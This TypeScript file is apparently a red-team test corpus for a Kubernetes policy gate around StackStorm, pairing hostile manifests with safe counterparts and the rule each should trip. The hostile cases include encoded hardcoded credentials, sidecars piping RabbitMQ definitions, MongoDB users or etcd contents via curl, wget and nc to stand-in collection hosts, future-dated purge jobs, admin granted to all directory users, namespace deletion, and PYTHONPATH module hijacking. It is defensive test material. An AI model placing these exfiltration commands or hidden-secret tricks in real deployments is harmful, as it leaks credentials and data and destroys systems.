/**
 * The fourteenth red team's last encoded default (test/attackers/red14:
 * sec-xz-secret): a published default compressed with xz and shipped as
 * base64, which `xz -d` (or Python's lzma) turns back. The real xz writes
 * every case here, with the settings a script would use; the gate reads xz
 * and legacy .lzma streams (src/policy/xz.ts) like gzip, zstd and bzip2.
 *
 * Safe: xz-compressed configs that hold no default (placeholders, notes).
 * Also bytes as three-digit octal (`od -b`), src/policy/number-bytes.ts, and a
 * placeholder in a mounted ConfigMap or Secret fixed up by the pod's own
 * `sed -i` or `perl -pi` (string-facts.ts, visitEditedMounts), and a store's
 * contents read over its HTTP API or by its shell (RabbitMQ definitions,
 * mongosh finds, etcdctl get) then sent out (command-effects.ts, ST2-SEC-016).
 * The fifteenth red team's st2-self holes: purge tools given a future literal
 * timestamp (ST2-OPS-046), st2 admin for FreeIPA's ipausers (ST2-HRD-013), the
 * Namespace deleted from a staging or production render (ST2-REP-011) and an
 * LDAP bind password committed in st2's config (ST2-SEC-013), and a module
 * under PYTHONPATH starting a second timers engine (ST2-REP-001).
 *
 * Also RabbitMQ shovels and federation upstreams declared through the
 * management API (an open question of an earlier round): judged as the
 * rabbitmqctl ones are (ST2-SEC-039).
 */
import { execFileSync } from 'node:child_process';
import type { Patch, RedTeamCase } from './corpus.js';
import { bodyCase, type CaseBody } from './case-body.js';
import { patch as stsPatch, SPEC, STS } from './targets.js';

type Json = Record<string, unknown>;

const FIRST = '/spec/template/spec/containers/0';
const patch = (target: Json, ...ops: Json[]): Patch => ({ target, ops });
const configMap = (name: string, field: 'data' | 'binaryData', data: Record<string, string>): Json => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name }, [field]: data });
const secret = (name: string, data: Record<string, string>): Json => ({ apiVersion: 'v1', kind: 'Secret', metadata: { name }, type: 'Opaque', data });
/** st2client's command replaced by a shell script (it then sleeps, as the base's does). */
const clientScript = (script: string): Patch =>
  patch({ group: 'apps', kind: 'Deployment', name: 'st2client' }, { op: 'replace', path: `${FIRST}/command`, value: ['bash', '-ec', `${script}; exec sleep infinity`] });

const ST2 = 'Ch@ngeMe';
const RABBIT = '9jS+w1u07NbHtZke1m+jW4Cj';
const COOKIE = '8MrqQdCQ6AQ8U3MacSubHE5RqkSfvNaRHzvxuFcG';
const MONGO = 'XeL5Rxwj7F0Wt43tFZVTN7H8Sg5XDHmK';
const KEYFILE = '82PItDpqroti5RngOA7UqbHH7c6bFUwy';

/** `text` compressed by Debian's xz with `args`, as base64. */
const xz64 = (text: string, ...args: string[]): string => execFileSync('xz', ['-c', ...args], { input: text }).toString('base64');

export function fresh15MineCorpus(): RedTeamCase[] {
  const cases: RedTeamCase[] = [];
  const add = (id: string, rule: string | undefined, body: CaseBody): void => {
    cases.push(bodyCase(`f15m-${id}`, 'secrets', rule, body));
  };
  const SEC001 = 'ST2-SEC-001';

  add('xz-mongo-password-secret', SEC001, { resources: [secret('legacy-db', { 'mongo.xz': xz64(MONGO) })] });
  add('xz-st2-cli-config-binarydata', SEC001, {
    resources: [configMap('cli-config', 'binaryData', { 'config.xz': xz64(`[credentials]\nusername = st2admin\npassword = ${ST2}\n`, '-9', '-e') })],
  });
  add('xz-rabbit-in-script', SEC001, { patches: [clientScript(`export RABBITMQ_PASSWORD="$(echo '${xz64(RABBIT)}' | base64 -d | xz -dc)"`)] });
  add('xz-sha256-keyfile-configmap', SEC001, { resources: [configMap('keyfile-xz', 'data', { 'keyfile.xz.b64': xz64(KEYFILE, '--check=sha256') })] });
  add('lzma-alone-cookie', SEC001, { resources: [configMap('cookie-lzma', 'data', { 'cookie.lzma.b64': xz64(COOKIE, '--format=lzma') })] });
  add('xz-two-blocks-config', SEC001, {
    resources: [configMap('st2-extra', 'binaryData', { 'st2.conf.xz': xz64(`${'# padding line\n'.repeat(400)}[database]\npassword = ${MONGO}\n`, '--block-size=2048') })],
  });
  // Bytes as three-digit octal, as `od -b` prints them (an earlier round's open question).
  const octal = (t: string): string => [...Buffer.from(t)].map((b) => b.toString(8).padStart(3, '0')).join(' ');
  add('octal-cookie-od-b', SEC001, { resources: [configMap('cookie-octal', 'data', { 'cookie.od': octal(COOKIE) })] });
  add('octal-st2-password-printf', SEC001, { patches: [clientScript(`export ST2_PASSWORD="$(for c in ${octal(ST2)}; do printf "\\\\$c"; done)"`)] });
  add('safe-octal-file-modes', undefined, { resources: [configMap('modes', 'data', { 'modes.txt': '0644 0755 0600 0640 0700 0750 0444 0555 0664 0775 0311 0200' })] });
  // A placeholder in one object fixed up in place by the pod that mounts it (an earlier round's open question).
  const mountAndRun = (volume: Json, script: string): Patch[] => [
    patch({ group: 'apps', kind: 'Deployment', name: 'st2client' }, { op: 'add', path: '/spec/template/spec/volumes/-', value: { name: 'extra', ...volume } }, { op: 'add', path: `${FIRST}/volumeMounts/-`, value: { name: 'extra', mountPath: '/opt/extra' } }),
    clientScript(script),
  ];
  add('sed-in-place-mounted-config', SEC001, {
    resources: [configMap('cli-seed', 'data', { config: `[credentials]\nusername = st2admin\npassword = ${ST2.replace('@', 'X')}\n` })],
    patches: mountAndRun({ configMap: { name: 'cli-seed' } }, `cp /opt/extra/config /root/.st2/config && sed -i 's/X/@/' /root/.st2/config`),
  });
  add('perl-in-place-mounted-secret', SEC001, {
    resources: [secret('bus-seed', { 'bus.env': Buffer.from(`RABBITMQ_PASSWORD=${RABBIT.replace(/\+/g, '_')}\n`).toString('base64') })],
    patches: mountAndRun({ projected: { sources: [{ secret: { name: 'bus-seed' } }] } }, `cp /opt/extra/bus.env /tmp/bus.env && perl -pi -e 's/_/+/g' /tmp/bus.env`),
  });
  add('sed-operand-mounted-config', SEC001, {
    resources: [configMap('cli-seed-2', 'data', { config: `[credentials]\nusername = st2admin\npassword = ${ST2.replace('@', 'X')}\n` })],
    patches: mountAndRun({ configMap: { name: 'cli-seed-2' } }, `sed -e 's/X/@/' /opt/extra/config > /root/.st2/config`),
  });
  add('tr-redirect-mounted-secret', SEC001, {
    resources: [secret('db-seed', { pw: Buffer.from(MONGO.replace(/5/g, '%')).toString('base64') })],
    patches: mountAndRun({ secret: { secretName: 'db-seed' } }, `export MONGO_PASSWORD="$(tr '%' '5' < /opt/extra/pw)"`),
  });
  add('safe-sed-in-place-host', undefined, {
    resources: [configMap('cli-seed-host', 'data', { config: '[general]\nbase_url = https://REPLACE_HOST\n' })],
    patches: mountAndRun({ configMap: { name: 'cli-seed-host' } }, `cp /opt/extra/config /root/.st2/config && sed -i "s/REPLACE_HOST/$HOSTNAME/" /root/.st2/config`),
  });
  add('safe-xz-config-placeholders', undefined, {
    resources: [configMap('cli-config-template', 'binaryData', { 'config.xz': xz64('[credentials]\nusername = st2admin\npassword = ${ST2_AUTH_PASSWORD}\n') })],
  });
  add('safe-xz-release-notes', undefined, { resources: [configMap('notes', 'binaryData', { 'NOTES.xz': xz64('st2 3.8.1: rotated the MongoDB password through the vault; see the runbook.\n'.repeat(20)) })] });
  // Shovels and federation upstreams declared through the management API (curl, rabbitmqadmin,
  // Python) rather than rabbitmqctl: the same link out (ST2-SEC-039); a shovel between local vhosts stays allowed.
  const exposure = (id: string, rule: string | undefined, body: CaseBody): void => {
    cases.push(bodyCase(`f15m-${id}`, 'exposure', rule, body));
  };
  const hook = (script: string): CaseBody => ({ patches: [stsPatch(STS('rabbitmq'), { op: 'add', path: `${SPEC}/containers/0/lifecycle`, value: { postStart: { exec: { command: ['sh', '-c', script] } } } })] });
  const api = 'curl -s -u "admin:$RABBITMQ_PASSWORD" -H "content-type: application/json" -X PUT';
  exposure('mgmt-shovel-api', 'ST2-SEC-039', hook(`sleep 90; ${api} http://localhost:15672/api/parameters/shovel/%2f/copy-out -d '{"value":{"src-uri":"amqp://","src-queue":"st2.actionrunner.work","dest-uri":"amqp://mq.offsite.example.net"}}'`));
  exposure('mgmt-federation-api', 'ST2-SEC-039', hook(`sleep 90; ${api} http://localhost:15672/api/parameters/federation-upstream/%2f/up -d '{"value":{"uri":"amqps://feed.partner.example.com"}}'`));
  exposure('mgmt-shovel-rabbitmqadmin', 'ST2-SEC-039', hook(`sleep 90; rabbitmqadmin -u admin -p "$RABBITMQ_PASSWORD" declare parameter component=shovel name=out value='{"src-uri":"amqp://","src-queue":"st2.x","dest-uri":"amqp://203.0.113.9"}'`));
  exposure('mgmt-shovel-api-python', 'ST2-SEC-039', hook(`sleep 90; python3 -c 'import json,urllib.request as u; r=u.Request("http://localhost:15672/api/parameters/shovel/%2f/o", data=json.dumps({"value":{"src-uri":"amqp://","src-queue":"q","dest-uri":"amqp://mq.offsite.example.net"}}).encode(), method="PUT"); u.urlopen(r)'`));
  exposure('mgmt-shovel-api-local-ok', undefined, hook(`sleep 90; ${api} http://localhost:15672/api/parameters/shovel/archive/keep -d '{"value":{"src-uri":"amqp:///archive","src-queue":"a","dest-uri":"amqp:///archive","dest-queue":"b"}}'`));
  // A store's contents read over HTTP or by its own shell (not a dump program), then sent out (ST2-SEC-016);
  // health pages sent to a status page, and copies inside the cluster, stay allowed.
  const LIMITS = { requests: { cpu: '5m', memory: '8Mi' }, limits: { cpu: '50m', memory: '32Mi' } };
  const LOCKED = { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] }, runAsNonRoot: true, runAsUser: 65534, readOnlyRootFilesystem: true };
  const side = (store: string, script: string, env: unknown[]): CaseBody => ({
    patches: [stsPatch(STS(store), { op: 'add', path: `${SPEC}/containers/-`, value: { name: 'tun', image: 'buildpack-deps:bookworm-curl', command: ['sh', '-c', script], resources: LIMITS, securityContext: LOCKED, env } })],
  });
  const RENV = [{ name: 'P', valueFrom: { secretKeyRef: { name: 'rabbitmq', key: 'rabbitmq-password' } } }];
  const MENV = [{ name: 'P', valueFrom: { secretKeyRef: { name: 'mongodb-admin', key: 'password' } } }];
  const ex = (id: string, rule: string | undefined, body: CaseBody): void => { cases.push(bodyCase(`f15m-${id}`, 'secrets', rule, body)); };
  ex('store-api-curl-defs-curl-out', 'ST2-SEC-016', side('rabbitmq', 'sleep 60; curl -s -u "admin:$P" http://localhost:15672/api/definitions | curl -s -X POST --data-binary @- https://collect.example.net/in; sleep infinity', RENV));
  ex('store-api-wget-defs-nc-out', 'ST2-SEC-016', side('rabbitmq', 'sleep 60; wget -qO- --user admin --password "$P" http://localhost:15672/api/definitions | nc collect.example.net 443; sleep infinity', RENV));
  ex('store-api-mongosh-json-curl-out', 'ST2-SEC-016', side('mongodb', `sleep 60; mongosh "mongodb://admin:$P@localhost/st2?authSource=admin" --quiet --eval 'EJSON.stringify(db.user_d_b.find().toArray())' | curl -s -d @- https://collect.example.net/in; sleep infinity`, MENV));
  ex('store-api-etcdctl-get-curl-out', 'ST2-SEC-016', side('etcd', 'sleep 60; etcdctl get --prefix "" | curl -s -T - https://collect.example.net/in; sleep infinity', []));
  ex('store-api-curl-defs-tmpfile-then-out', 'ST2-SEC-016', side('rabbitmq', 'sleep 60; curl -s -u "admin:$P" -o /tmp/d.json http://localhost:15672/api/definitions; curl -s -F f=@/tmp/d.json https://collect.example.net/in; sleep infinity', RENV));
  ex('safe-store-api-defs-local', undefined, side('rabbitmq', 'sleep 60; curl -s -u "admin:$P" -o /tmp/d.json http://localhost:15672/api/definitions; sleep infinity', RENV));
  ex('safe-store-api-aliveness-status-page', undefined, side('rabbitmq', 'sleep 60; curl -s -u "admin:$P" http://localhost:15672/api/aliveness-test/%2F | curl -s -d @- https://status.example.net/hook; sleep infinity', RENV));
  ex('safe-store-api-defs-minio-in-cluster', undefined, side('rabbitmq', 'sleep 60; curl -s -u "admin:$P" http://localhost:15672/api/definitions | curl -s -T - http://minio.st2-prod.svc.cluster.local:9000/backups/defs.json; sleep infinity', RENV));

  // --- The fifteenth red team's st2-self holes ----------------------------------------------------------
  /** A nightly CronJob running one of st2's purge tools on the base's config files (the st2 image's layout). */
  const purgeJob = (ns: string, tool: string, tail: string[]): Json => ({
    apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name: 'st2-purge-nightly', namespace: ns },
    spec: { schedule: '17 3 * * *', concurrencyPolicy: 'Forbid', jobTemplate: { spec: { backoffLimit: 1, template: { spec: {
      imagePullSecrets: [{ name: 'st2-license' }], restartPolicy: 'OnFailure',
      containers: [{
        name: 'purge', image: 'stackstorm/st2actionrunner:3.8.1', imagePullPolicy: 'IfNotPresent', command: [`/opt/stackstorm/st2/bin/${tool}`],
        args: ['--config-file=/etc/st2/st2.conf', '--config-file=/etc/st2/st2.docker.conf', '--config-file=/etc/st2/st2.user.conf', '--config-file=/etc/st2/st2.secrets.conf', ...tail],
        resources: { limits: { cpu: '500m', memory: '512Mi' }, requests: { cpu: '50m', memory: '128Mi' } },
        securityContext: { allowPrivilegeEscalation: false, privileged: false },
        volumeMounts: [
          { name: 'st2-config-vol', mountPath: '/etc/st2/st2.docker.conf', subPath: 'st2.docker.conf' },
          { name: 'st2-config-vol', mountPath: '/etc/st2/st2.user.conf', subPath: 'st2.user.conf' },
          { name: 'st2-config-secrets-vol', mountPath: '/etc/st2/st2.secrets.conf', subPath: 'st2.secrets.conf', readOnly: true },
        ],
      }],
      volumes: [{ name: 'st2-config-vol', configMap: { name: 'st2-config' } }, { name: 'st2-config-secrets-vol', secret: { secretName: 'st2-config-secrets' } }],
    } } } } },
  });
  const self = (id: string, rule: string | undefined, body: CaseBody): void => {
    cases.push(bodyCase(`f15m-${id}`, 'st2-self', rule, body));
  };
  // st2's purge tools delete everything older than --timestamp, with no check it is in the past.
  self('purge-future-incomplete', 'ST2-OPS-046', { resources: [purgeJob('st2-prod', 'st2-purge-executions', ['--timestamp=2099-01-01T00:00:00.000000Z', '--purge-incomplete'])] });
  self('purge-future-history-staging', 'ST2-OPS-046', { wraps: 'staging', resources: [purgeJob('st2-staging', 'st2-purge-trigger-instances', ['--timestamp=2031-01-01T00:00:00Z'])] });
  self('purge-future-next-word', 'ST2-OPS-046', { resources: [purgeJob('st2-prod', 'st2-purge-workflows', ['--timestamp', '2040-06-30', '--purge-incomplete'])] });
  self('safe-purge-past-literal', undefined, { resources: [purgeJob('st2-prod', 'st2-purge-executions', ['--timestamp=2026-03-01T00:00:00.000000Z'])] });
  // FreeIPA puts every user in ipausers: admin for it is admin for everyone (ST2-HRD-013).
  const mapping = (file: string, group: string, role: string): Patch =>
    patch({ kind: 'ConfigMap', name: 'st2-rbac-mappings' }, { op: 'add', path: `/data/${file}`, value: `---\ngroup: "${group}"\ndescription: "directory mapping"\nenabled: true\nroles:\n  - "${role}"\n` });
  self('rbac-ipausers-admin', 'ST2-HRD-013', { patches: [mapping('ipa.yaml', 'cn=ipausers,cn=groups,cn=accounts,dc=corp,dc=example', 'admin')] });
  self('rbac-ipausers-system-admin-bare', 'ST2-HRD-013', { patches: [mapping('ipa.yaml', 'ipausers', 'system_admin')] });
  self('safe-rbac-ipa-admins-group', undefined, { patches: [mapping('ipa.yaml', 'cn=st2-admins,cn=groups,cn=accounts,dc=corp,dc=example', 'admin')] });
  // The Namespace a staging or production render holds, deleted from it: Argo CD prunes it with everything in it (ST2-REP-011).
  const kz = (wraps: 'prod' | 'staging', lines: string[]): CaseBody => ({ wraps, files: { 'kustomization.yaml': ['apiVersion: kustomize.config.k8s.io/v1beta1', 'kind: Kustomization', 'resources:', `  - ../../${wraps}`, ...lines, ''].join('\n') } });
  const dropNs = (ns: string): string[] => ['patches:', '  - patch: |-', '      $patch: delete', '      apiVersion: v1', '      kind: Namespace', '      metadata:', `        name: ${ns}`];
  self('namespace-deleted-staging', 'ST2-REP-011', kz('staging', dropNs('st2-staging')));
  self('namespace-deleted-prod', 'ST2-REP-011', kz('prod', dropNs('st2-prod')));
  self('safe-namespace-labelled', undefined, kz('staging', ['patches:', '  - patch: |-', '      apiVersion: v1', '      kind: Namespace', '      metadata:', '        name: st2-staging', '        labels:', '          team: platform']));
  // An LDAP bind password written into st2's config in production (ST2-SEC-013).
  const ldapConf = (kwargs: string): Patch =>
    patch({ kind: 'ConfigMap', name: 'st2-config' }, { op: 'add', path: '/data/st2.ldap.conf', value: `[auth]\nbackend = ldap\nbackend_kwargs = ${kwargs}\n` });
  self('ldap-bind-password-committed', 'ST2-SEC-013', { patches: [ldapConf('{"bind_dn": "cn=st2-bind,ou=svc,dc=corp,dc=example", "bind_password": "Qm7vTz2LpX9wRk", "base_ou": "ou=people,dc=corp,dc=example", "host": "ldap.corp.example", "port": 636, "use_ssl": true}')] });
  self('safe-ldap-bind-password-placeholder', undefined, { patches: [ldapConf('{"bind_dn": "cn=st2-bind,ou=svc,dc=corp,dc=example", "bind_password": "{{ .ldap_bind_password }}", "host": "ldap.corp.example", "port": 636, "use_ssl": true}')] });
  // A module under PYTHONPATH an st2 service imports, starting a second timers engine (ST2-REP-001).
  const pyHook = (app: string, module: string, code: string): CaseBody => ({
    resources: [configMap(`${app}-pyhooks`, 'data', { [module]: code })],
    patches: [
      patch(
        { group: 'apps', kind: 'Deployment', name: app },
        { op: 'add', path: '/spec/template/spec/volumes/-', value: { name: 'pyhooks', configMap: { name: `${app}-pyhooks` } } },
        { op: 'add', path: `${FIRST}/volumeMounts/-`, value: { name: 'pyhooks', mountPath: '/opt/pyhooks', readOnly: true } },
        { op: 'add', path: `${FIRST}/env`, value: [{ name: 'PYTHONPATH', value: '/opt/pyhooks' }] },
      ),
    ],
  });
  const reexport = "import importlib.machinery, importlib.util, os, sys\n_here = os.path.dirname(os.path.abspath(__file__))\nsys.path[:] = [p for p in sys.path if os.path.abspath(p or '.') != _here]\n_spec = importlib.machinery.PathFinder.find_spec(__name__)\n_mod = importlib.util.module_from_spec(_spec); _spec.loader.exec_module(_mod); sys.modules[__name__] = _mod\n";
  self('pythonpath-module-starts-timers', 'ST2-REP-001', pyHook('st2rulesengine', 'six.py', `import os, subprocess\nif not os.environ.get('CHILD'):\n    os.environ['CHILD'] = '1'\n    subprocess.Popen(['/opt/stackstorm/st2/bin/python', '/opt/stackstorm/st2/bin/st2timersengine', '--config-file=/etc/st2/st2.conf', '--config-file=/etc/st2/st2.docker.conf', '--config-file=/etc/st2/st2.user.conf', '--config-file=/etc/st2/st2.secrets.conf'])\n${reexport}`));
  self('pythonpath-module-system-timers-multiline', 'ST2-REP-001', pyHook('st2notifier', 'yaml.py', `import subprocess\nsubprocess.Popen(\n    [\n        'st2timersengine',\n        '--config-file=/etc/st2/st2.conf',\n    ]\n)\n${reexport}`));
  self('safe-pythonpath-module-runs-logger', undefined, pyHook('st2rulesengine', 'six.py', `import subprocess\nsubprocess.run(['logger', '-t', 'st2rulesengine', 'rules engine starting'])\n${reexport}`));
  return cases;
}
